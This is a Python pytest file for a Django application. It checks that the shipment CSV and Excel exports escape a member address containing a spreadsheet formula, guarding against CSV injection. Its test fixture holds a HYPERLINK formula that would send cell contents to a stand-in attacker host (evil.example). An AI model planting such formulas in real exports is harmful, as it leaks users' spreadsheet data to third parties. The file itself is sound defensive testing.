"""Exports of the shipments: a member whose address is a formula (CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import make_member

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture
def linked_member(tree):
    return make_member(tree.branch_a1, name="海清", household_address=LINK)


@pytest.fixture
def signed_in(client, secretary_a, linked_member, dispatch):
    """The member is in the dispatch: created before it."""
    client.force_login(secretary_a)
    return client


def test_the_csv_postal_list_writes_a_formula_as_text(signed_in, dispatch):
    url = reverse("education:packages:shipment_export", args=[dispatch.pk, "csv"])

    rows = list(csv.reader(io.StringIO(signed_in.get(url).content.decode("utf-8-sig"))))

    (row,) = [row for row in rows if row[1] == "海清"]
    assert row[3] == "'" + LINK


@pytest.mark.parametrize("url_name", ["shipment_export", "tracking_template"])
def test_the_workbooks_write_a_formula_as_text(signed_in, dispatch, url_name):
    args = [dispatch.pk, "xlsx"] if url_name == "shipment_export" else [dispatch.pk]
    answer = signed_in.get(reverse(f"education:packages:{url_name}", args=args))

    sheet = load_workbook(io.BytesIO(answer.content)).active
    (row,) = [row for row in sheet.iter_rows() if row[1].value == "海清"]
    assert (row[3].value, row[3].data_type) == ("'" + LINK, "s")
